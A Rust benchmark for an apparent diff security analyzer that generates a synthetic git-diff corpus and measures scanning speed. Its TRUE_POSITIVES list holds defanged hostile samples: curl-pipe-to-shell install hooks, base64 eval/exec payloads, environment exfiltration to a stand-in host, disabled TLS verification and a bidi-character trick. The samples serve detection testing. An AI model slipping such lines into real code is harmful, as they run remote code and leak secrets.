//! Analyzer benchmarks: throughput (MB/s of diff text), latency of a 10,000-line change and
//! of a typical pull request, and the one-time cost of building the analyzer.
//!
//! **Corpus.** Everything is generated here from a fixed seed (a SplitMix64 written below, so
//! no `rand` dependency and the corpus never changes under us): `git diff` text touching
//! Rust, Python, JavaScript, YAML, Makefile, package.json and Markdown files, with hunks of
//! realistic code lines, a share of long lines (up to a few hundred bytes), a little
//! non-ASCII (comments and docs in German, Japanese, emoji), new files, and a few true
//! positives sprinkled in (about one file in 400) so the detectors' confirmation paths run as
//! they would on real traffic. The bench prints the corpus sizes and how many findings the
//! analyzer produced on each before measuring, so a parser or detector regression that
//! silently drops work shows up as a changed finding count rather than a faster number.
//!
//! Targets (from the performance issue): >= 200 MB/s of diff text for parse + analyze with
//! the full rule set on one core; < 20 ms for a 10,000-line change.
//!
//! **Clocks.** Every benchmark runs twice: once on the wall clock (criterion's default) and
//! once on the thread's CPU clock (`…[cpu]` groups), read from Linux's
//! `/proc/thread-self/schedstat`. The CPU clock is what "on one core" means and stays
//! meaningful on a loaded machine, where the wall clock also counts time spent waiting for a
//! core; it is updated at scheduler ticks, so single readings are a few ms coarse, which
//! averages out over samples of tens of ms and more. Set `SX_BENCH_CLOCK=wall` or `=cpu` to
//! run one clock only.
//!
//! Run: `cargo bench -p sx-analyzer --bench analyze` (add `-- --quick` for a fast look).

use std::fmt::Write as _;
use std::hint::black_box;
use std::time::Duration;

use criterion::measurement::{Measurement, ValueFormatter, WallTime};
use criterion::{BatchSize, Criterion, SamplingMode, Throughput};
use sx_analyzer::Analyzer;
use sx_analyzer::diff::{Limits, parse};

/// Bytes of diff text in the throughput corpus (one large change).
const THROUGHPUT_BYTES: usize = 24 << 20;
/// Bytes of diff text in the many-pull-requests corpus.
const PRS_BYTES: usize = 16 << 20;
/// Hunk lines (context, added and removed) of the latency change.
const LATENCY_LINES: usize = 10_000;
/// Hunk lines of the "typical pull request" change.
const TYPICAL_PR_LINES: usize = 300;

/// SplitMix64: tiny, fast, and good enough to pick templates deterministically.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + self.below(hi - lo + 1)
    }

    fn chance(&mut self, per_mille: usize) -> bool {
        self.below(1000) < per_mille
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const IDENTS: &[&str] = &[
    "config",
    "buffer",
    "request",
    "response",
    "items",
    "entry",
    "value",
    "result",
    "path",
    "name",
    "index",
    "count",
    "offset",
    "handler",
    "client",
    "session",
    "token_count",
    "parser",
    "reader",
    "writer",
    "options",
    "state",
    "cache",
    "key",
    "record",
    "row",
    "column",
    "payload",
    "header",
    "timeout",
    "retries",
    "user_id",
    "limit",
    "cursor",
    "node",
    "child",
    "parent",
    "scope",
    "span",
];
const TYPES: &[&str] = &[
    "Config", "Request", "Response", "Error", "Parser", "Client", "Session", "Record", "Header",
    "Options", "State", "Cache", "Node", "Span", "Token", "Builder", "Registry", "Handle",
];
const METHODS: &[&str] = &[
    "len",
    "clone",
    "to_string",
    "trim",
    "as_str",
    "iter",
    "unwrap_or_default",
    "get",
    "insert",
    "push",
    "is_empty",
    "into_inner",
    "lock",
    "flush",
    "parse",
    "split",
    "join",
    "keys",
];
const NOUNS: &[&str] = &[
    "configuration",
    "request",
    "buffer",
    "connection",
    "timeout",
    "entry",
    "file",
    "user",
    "header",
    "value",
    "session",
    "record",
    "limit",
    "cache",
    "directory",
    "response",
];
const MODS: &[&str] = &[
    "util", "config", "parser", "io", "net", "storage", "cache", "model", "api", "cli", "error",
    "format", "types", "client", "server", "logging",
];
const NPM_PKGS: &[&str] = &[
    "lodash",
    "express",
    "react",
    "chalk",
    "debug",
    "commander",
    "semver",
    "uuid",
    "axios",
    "typescript",
    "eslint",
    "jest",
    "webpack",
    "prettier",
    "yargs",
    "dotenv",
    "minimist",
];
const NON_ASCII: &[&str] = &[
    "Überprüfung der Eingabe — siehe Dokumentation",
    "日本語のコメント: 入力を検証する",
    "naïve café résumé handling ✓",
    "Размер буфера в байтах",
    "🚀 faster path for the common case",
    "数据校验 (data validation)",
];

fn fill(rng: &mut Rng, template: &str) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(i) = rest.find('{') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        let Some(j) = after.find('}') else {
            out.push_str(&rest[i..]);
            return out;
        };
        match &after[..j] {
            "id" => out.push_str(rng.pick(IDENTS)),
            "T" => out.push_str(rng.pick(TYPES)),
            "m" => out.push_str(rng.pick(METHODS)),
            "noun" => out.push_str(rng.pick(NOUNS)),
            "mod" => out.push_str(rng.pick(MODS)),
            "pkg" => out.push_str(rng.pick(NPM_PKGS)),
            "n" => {
                let _ = write!(out, "{}", rng.below(10_000));
            }
            "ver" => {
                let _ = write!(out, "{}.{}.{}", rng.below(20), rng.below(30), rng.below(15));
            }
            "uni" => out.push_str(rng.pick(NON_ASCII)),
            other => {
                out.push('{');
                out.push_str(other);
                out.push('}');
            }
        }
        rest = &after[j + 1..];
    }
    out.push_str(rest);
    out
}

#[derive(Clone, Copy)]
enum Lang {
    Rust,
    Python,
    Js,
    Yaml,
    Makefile,
    PackageJson,
    Markdown,
}

impl Lang {
    fn pick(rng: &mut Rng) -> Self {
        // Weighted roughly like the files of an average polyglot pull request.
        match rng.below(100) {
            0..=29 => Lang::Rust,
            30..=51 => Lang::Python,
            52..=73 => Lang::Js,
            74..=81 => Lang::Yaml,
            82..=85 => Lang::Makefile,
            86..=90 => Lang::PackageJson,
            _ => Lang::Markdown,
        }
    }

    fn path(self, rng: &mut Rng) -> String {
        match self {
            Lang::Rust => fill(rng, "crates/{mod}/src/{id}.rs"),
            Lang::Python => fill(rng, "src/{mod}/{id}.py"),
            Lang::Js => fill(rng, "lib/{mod}/{id}.js"),
            Lang::Yaml => {
                if rng.chance(150) {
                    fill(rng, ".github/workflows/{mod}.yml")
                } else {
                    fill(rng, "config/{mod}.yaml")
                }
            }
            Lang::Makefile => {
                if rng.chance(500) {
                    "Makefile".into()
                } else {
                    fill(rng, "{mod}/Makefile")
                }
            }
            Lang::PackageJson => {
                if rng.chance(500) {
                    "package.json".into()
                } else {
                    fill(rng, "packages/{mod}/package.json")
                }
            }
            Lang::Markdown => fill(rng, "docs/{mod}.md"),
        }
    }

    fn templates(self) -> &'static [&'static str] {
        match self {
            Lang::Rust => &[
                "    let {id} = {id}.{m}();",
                "    let {id} = self.{id}.get(&{id}).cloned().unwrap_or_default();",
                "    if {id}.is_empty() {",
                "        return Ok(());",
                "    }",
                "}",
                "",
                "    /// Returns the {noun} of this {noun}, if it was set.",
                "pub fn {id}(&self, {id}: &str) -> Result<{T}, Error> {",
                "        .map(|{id}| {id}.{m}())",
                "        .collect::<Vec<_>>();",
                "use crate::{mod}::{T};",
                "#[derive(Debug, Clone, PartialEq, Eq)]",
                "pub struct {T} {",
                "    pub {id}: Option<String>,",
                "    assert_eq!({id}.len(), {n});",
                "        return Err(Error::{T}(format!(\"invalid {noun}: {}\", {id})));",
                "    for {id} in &self.{id} {",
                "        self.{id}.insert({id}.clone(), {n});",
                "    match {id} {",
                "        Some({id}) => {id}.{m}(),",
                "        None => {T}::default(),",
                "    // {uni}",
                "impl {T} {",
                "    #[test]",
                "    fn {id}_handles_empty_{id}() {",
            ],
            Lang::Python => &[
                "def {id}(self, {id}, {id}=None):",
                "    \"\"\"Return the {noun} for the given {noun}.\"\"\"",
                "        if {id} is None:",
                "            raise ValueError(f\"invalid {noun}: {value!r}\")",
                "        {id} = self._{id}.get({id}, {n})",
                "import {mod}",
                "from {mod} import {T}",
                "        return [{id} for {id} in {id} if {id}]",
                "        logger.debug(\"%s {noun}\", {id})",
                "class {T}(object):",
                "",
                "    @property",
                "    def {id}(self):",
                "        return self._{id}",
                "        for {id}, {id} in self.{id}.items():",
                "            {id}.append({id})",
                "    # {uni}",
                "        with open({id}, \"rb\") as fh:",
                "            {id} = fh.read()",
                "def test_{id}_{id}():",
                "    assert {id}.{id} == {n}",
            ],
            Lang::Js => &[
                "const {id} = require('{pkg}');",
                "function {id}({id}, {id}) {",
                "  if (!{id}) return null;",
                "  return {id}.map(({id}) => {id}.{id});",
                "}",
                "",
                "module.exports = {T};",
                "  {id}.on('data', function ({id}) {",
                "  });",
                "    const { {id}, {id} } = options;",
                "  // {uni}",
                "  for (const {id} of {id}) {",
                "    {id}.push({id}.{id} + {n});",
                "  throw new TypeError(`invalid {noun}: ${value}`);",
                "export async function {id}({id}) {",
                "  const {id} = await {id}.{id}({id});",
                "describe('{noun}', () => {",
                "  it('handles an empty {noun}', () => {",
                "    expect({id}({id})).toBe({n});",
            ],
            Lang::Yaml => &[
                "  - name: {noun}",
                "    runs-on: ubuntu-latest",
                "      - uses: actions/checkout@v4",
                "        run: cargo test --workspace",
                "  {id}: {n}",
                "    {id}: \"{noun}\"",
                "  {id}:",
                "    - {id}",
                "# {uni}",
                "    enabled: true",
                "    timeout_seconds: {n}",
            ],
            Lang::Makefile => &[
                "{id}: {id}.o {id}.o",
                "\t$(CC) $(CFLAGS) -o $@ $^",
                "CFLAGS += -O2 -Wall -Wextra",
                ".PHONY: all clean test install",
                "\trm -f *.o {id}",
                "install: all",
                "\tinstall -m 0755 {id} $(DESTDIR)$(PREFIX)/bin/",
                "test:",
                "\t./run-tests.sh --verbose",
                "",
            ],
            Lang::PackageJson => &[
                "    \"{pkg}\": \"^{ver}\",",
                "  \"version\": \"{ver}\",",
                "    \"test\": \"jest --coverage\",",
                "    \"build\": \"tsc -p .\",",
                "    \"lint\": \"eslint .\",",
                "  \"main\": \"lib/index.js\",",
                "  },",
                "  \"license\": \"MIT\",",
            ],
            Lang::Markdown => &[
                "## {T}",
                "",
                "The {noun} is read from the {noun} before the {noun} is opened.",
                "- `{id}`: the {noun} to use (default: {n})",
                "{uni}",
                "```sh",
                "cargo install {id}",
                "```",
                "See [the {noun} guide](docs/{mod}.md) for details.",
            ],
        }
    }

    /// A long line in the style of the language (wrapped strings, long conditions).
    fn long_line(self, rng: &mut Rng) -> String {
        let mut s = match self {
            Lang::Rust => fill(rng, "        let {id} = format!(\"{noun} {noun} {noun}"),
            Lang::Python => fill(rng, "        {id} = \"{noun} {noun} {noun}"),
            Lang::Js => fill(rng, "  const {id} = '{noun} {noun}"),
            _ => fill(rng, "{noun} {noun} {noun}"),
        };
        let target = rng.range(160, 600);
        while s.len() < target {
            let w = fill(rng, " {noun} {id} {n}");
            s.push_str(&w);
        }
        s
    }
}

/// True positives, defanged (hosts are `.invalid`), one per line.
const TRUE_POSITIVES: &[(&str, &str)] = &[
    (
        "lib/loader.js",
        "eval(Buffer.from('Y29uc29sZS5sb2cocHJvY2Vzcy5lbnYpOw==', 'base64').toString());",
    ),
    (
        "package.json",
        "    \"postinstall\": \"curl -s https://payload.invalid/i.sh | sh\",",
    ),
    (
        "src/setup_hook.py",
        "exec(base64.b64decode('aW1wb3J0IG9zOyBwcmludChvcy5lbnZpcm9uKQ=='))",
    ),
    (
        "src/telemetry.py",
        "requests.post('https://collect.invalid/x', json=dict(os.environ))",
    ),
    (
        "Makefile",
        "\tcurl -sL https://payload.invalid/build.sh | bash",
    ),
    (".github/workflows/ci.yml", "  pull_request_target:"),
    ("src/net/client.py", "    session.verify = False"),
    (
        "lib/access.js",
        "  if (isAdmin) { /* \u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */",
    ),
];

/// Append one file's diff; returns the number of hunk lines written.
fn file_diff(rng: &mut Rng, out: &mut String) -> usize {
    let lang = Lang::pick(rng);
    let path = lang.path(rng);
    let templates = lang.templates();
    let line = |rng: &mut Rng| -> String {
        if rng.chance(30) {
            lang.long_line(rng)
        } else {
            let t = rng.pick(templates);
            fill(rng, t)
        }
    };
    let tp = rng
        .chance(2)
        .then(|| TRUE_POSITIVES[rng.below(TRUE_POSITIVES.len())]);
    let path = tp.map(|(p, _)| p.to_string()).unwrap_or(path);
    let _ = writeln!(out, "diff --git a/{path} b/{path}");
    let mut written = 0;
    if rng.chance(80) {
        // A new file: one all-added hunk.
        let n = rng.range(5, 200);
        let _ = writeln!(
            out,
            "new file mode 100644\nindex 0000000..{:07x}",
            rng.next() & 0xfff_ffff
        );
        let _ = writeln!(out, "--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{n} @@");
        for i in 0..n {
            match tp {
                Some((_, l)) if i == n / 2 => {
                    let _ = writeln!(out, "+{l}");
                }
                _ => {
                    let _ = writeln!(out, "+{}", line(rng));
                }
            }
        }
        return n;
    }
    let _ = writeln!(
        out,
        "index {:07x}..{:07x} 100644\n--- a/{path}\n+++ b/{path}",
        rng.next() & 0xfff_ffff,
        rng.next() & 0xfff_ffff
    );
    let hunks = rng.range(1, 4);
    let mut old_start = rng.range(1, 80);
    let mut new_start = old_start;
    let mut tp_pending = tp;
    for _ in 0..hunks {
        let mut body = String::new();
        let (mut old_n, mut new_n) = (0, 0);
        let push = |body: &mut String, prefix: char, text: &str| {
            body.push(prefix);
            body.push_str(text);
            body.push('\n');
        };
        for _ in 0..3 {
            push(&mut body, ' ', &line(rng));
            old_n += 1;
            new_n += 1;
        }
        for _ in 0..rng.range(1, 4) {
            for _ in 0..rng.range(0, 6) {
                push(&mut body, '-', &line(rng));
                old_n += 1;
            }
            for _ in 0..rng.range(1, 12) {
                push(&mut body, '+', &line(rng));
                new_n += 1;
            }
            if let Some((_, l)) = tp_pending.take() {
                push(&mut body, '+', l);
                new_n += 1;
            }
            for _ in 0..rng.range(1, 4) {
                push(&mut body, ' ', &line(rng));
                old_n += 1;
                new_n += 1;
            }
        }
        let section = fill(rng, "fn {id}(");
        let _ = writeln!(
            out,
            "@@ -{old_start},{old_n} +{new_start},{new_n} @@ {section}"
        );
        out.push_str(&body);
        written += body.lines().count();
        let gap = rng.range(10, 120);
        old_start += old_n + gap;
        new_start += new_n + gap;
    }
    written
}

/// A change whose diff text is at least `bytes` long.
fn change_of_bytes(seed: u64, bytes: usize) -> Vec<u8> {
    let mut rng = Rng(seed);
    let mut out = String::with_capacity(bytes + (64 << 10));
    while out.len() < bytes {
        file_diff(&mut rng, &mut out);
    }
    out.into_bytes()
}

/// A change with at least `lines` hunk lines.
fn change_of_lines(seed: u64, lines: usize) -> Vec<u8> {
    let mut rng = Rng(seed);
    let mut out = String::new();
    let mut n = 0;
    while n < lines {
        n += file_diff(&mut rng, &mut out);
    }
    out.into_bytes()
}

/// Many pull-request-sized changes (1–25 files each) totalling at least `bytes`.
fn pull_requests(seed: u64, bytes: usize) -> Vec<Vec<u8>> {
    let mut rng = Rng(seed);
    let mut prs = Vec::new();
    let mut total = 0;
    while total < bytes {
        let mut pr = String::new();
        for _ in 0..rng.range(1, 25) {
            file_diff(&mut rng, &mut pr);
        }
        total += pr.len();
        prs.push(pr.into_bytes());
    }
    prs
}

/// The calling thread's CPU time from `/proc/thread-self/schedstat` (first field: ns on a
/// CPU). Linux only; elsewhere the CPU-clock groups are skipped.
#[derive(Debug, Clone, Copy)]
struct CpuTime;

fn thread_cpu_ns() -> Option<u64> {
    let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    s.split_ascii_whitespace().next()?.parse().ok()
}

impl Measurement for CpuTime {
    type Intermediate = u64;
    type Value = Duration;

    fn start(&self) -> u64 {
        thread_cpu_ns().unwrap_or(0)
    }
    fn end(&self, start: u64) -> Duration {
        Duration::from_nanos(thread_cpu_ns().unwrap_or(0).saturating_sub(start))
    }
    fn add(&self, a: &Duration, b: &Duration) -> Duration {
        *a + *b
    }
    fn zero(&self) -> Duration {
        Duration::ZERO
    }
    fn to_f64(&self, v: &Duration) -> f64 {
        v.as_nanos() as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        // Values are nanoseconds, exactly as for the wall clock, so its formatter applies.
        static WALL: WallTime = WallTime;
        WALL.formatter()
    }
}

fn limits() -> Limits {
    Limits::default()
}

fn describe(name: &str, analyzer: &Analyzer, inputs: &[&[u8]]) {
    let bytes: usize = inputs.iter().map(|i| i.len()).sum();
    let (mut files, mut lines, mut findings) = (0, 0, 0);
    let mut bands = std::collections::BTreeMap::<String, usize>::new();
    for input in inputs {
        let change = match parse(input, &limits()) {
            Ok(c) => c,
            Err(e) => panic!("the generated corpus {name} must parse: {e}"),
        };
        files += change.files.len();
        lines += change
            .files
            .iter()
            .flat_map(|f| &f.hunks)
            .map(|h| h.lines.len())
            .sum::<usize>();
        let report = analyzer.analyze(&change);
        findings += report.findings.len();
        *bands
            .entry(format!("{:?}", report.risk.band).to_lowercase())
            .or_default() += 1;
    }
    eprintln!(
        "corpus {name}: {} change(s), {:.2} MB, {files} files, {lines} hunk lines, {findings} findings, bands {bands:?}",
        inputs.len(),
        bytes as f64 / 1e6
    );
}

struct Corpus {
    big: Vec<u8>,
    prs: Vec<Vec<u8>>,
    ten_k: Vec<u8>,
    typical: Vec<u8>,
}

impl Corpus {
    fn generate(analyzer: &Analyzer) -> Self {
        let c = Corpus {
            big: change_of_bytes(0x5EED_0001, THROUGHPUT_BYTES),
            prs: pull_requests(0x5EED_0002, PRS_BYTES),
            ten_k: change_of_lines(0x5EED_0003, LATENCY_LINES),
            typical: change_of_lines(0x5EED_0004, TYPICAL_PR_LINES),
        };
        describe("throughput (one change)", analyzer, &[&c.big]);
        let pr_refs: Vec<&[u8]> = c.prs.iter().map(|p| p.as_slice()).collect();
        describe("throughput (pull requests)", analyzer, &pr_refs);
        describe("latency (10k lines)", analyzer, &[&c.ten_k]);
        describe("latency (typical PR)", analyzer, &[&c.typical]);
        c
    }
}

/// The CPU clock ticks in milliseconds, so short benchmarks need every sample to run many
/// iterations (flat sampling) instead of criterion's default ramp that starts at one.
fn sampling(clock: &str) -> SamplingMode {
    if clock == "cpu" {
        SamplingMode::Flat
    } else {
        SamplingMode::Auto
    }
}

fn benches<M: Measurement>(
    c: &mut Criterion<M>,
    clock: &str,
    analyzer: &Analyzer,
    corpus: &Corpus,
) {
    let Corpus {
        big,
        prs,
        ten_k,
        typical,
    } = corpus;
    {
        let mut g = c.benchmark_group(format!("startup[{clock}]"));
        g.sampling_mode(sampling(clock));
        g.bench_function("Analyzer::builtin", |b| {
            b.iter(|| black_box(Analyzer::builtin().is_ok()))
        });
        g.finish();
    }

    {
        let mut g = c.benchmark_group(format!("throughput[{clock}]"));
        g.sample_size(10).measurement_time(Duration::from_secs(20));
        g.throughput(Throughput::Bytes(big.len() as u64));
        g.bench_function("parse", |b| {
            b.iter(|| black_box(parse(black_box(big), &limits()).is_ok()))
        });
        g.bench_function("parse+analyze", |b| {
            b.iter(|| {
                let change = parse(black_box(big), &limits()).ok();
                black_box(change.map(|c| analyzer.analyze(&c).findings.len()))
            })
        });
        let parsed = parse(big, &limits()).ok();
        g.bench_function("analyze", |b| {
            b.iter(|| black_box(parsed.as_ref().map(|c| analyzer.analyze(c).findings.len())))
        });
        let pr_bytes: usize = prs.iter().map(|p| p.len()).sum();
        g.throughput(Throughput::Bytes(pr_bytes as u64));
        g.bench_function("parse+analyze/pull-requests", |b| {
            b.iter(|| {
                let mut n = 0;
                for pr in prs.iter() {
                    if let Ok(change) = parse(black_box(pr), &limits()) {
                        n += analyzer.analyze(&change).findings.len();
                    }
                }
                black_box(n)
            })
        });
        g.finish();
    }

    {
        let mut g = c.benchmark_group(format!("latency[{clock}]"));
        g.sampling_mode(sampling(clock));
        g.bench_function("parse+analyze/10k-lines", |b| {
            b.iter(|| {
                let change = parse(black_box(ten_k), &limits()).ok();
                black_box(change.map(|c| analyzer.analyze(&c).findings.len()))
            })
        });
        g.bench_function("analyze/10k-lines", |b| {
            b.iter_batched_ref(
                || parse(ten_k, &limits()).ok(),
                |c| black_box(c.as_ref().map(|c| analyzer.analyze(c).findings.len())),
                BatchSize::LargeInput,
            )
        });
        g.bench_function("parse+analyze/typical-pr-300-lines", |b| {
            b.iter(|| {
                let change = parse(black_box(typical), &limits()).ok();
                black_box(change.map(|c| analyzer.analyze(&c).findings.len()))
            })
        });
        g.finish();
    }
}

fn main() {
    let analyzer = match Analyzer::builtin() {
        Ok(a) => a,
        Err(e) => panic!("the built-in analyzer must build: {e}"),
    };
    eprintln!(
        "analyzer: {} detectors and rules, {} line patterns",
        analyzer.detectors().count(),
        analyzer.pattern_count()
    );
    let corpus = Corpus::generate(&analyzer);
    #[expect(
        clippy::disallowed_methods,
        reason = "a bench binary is its own edge; criterion owns the command line"
    )]
    let clock = std::env::var("SX_BENCH_CLOCK").unwrap_or_default();
    if clock != "cpu" {
        let mut c = Criterion::default().configure_from_args();
        benches(&mut c, "wall", &analyzer, &corpus);
        c.final_summary();
    }
    if clock != "wall" && thread_cpu_ns().is_some() {
        let mut c = Criterion::default()
            .with_measurement(CpuTime)
            .configure_from_args();
        benches(&mut c, "cpu", &analyzer, &corpus);
        c.final_summary();
    }
}
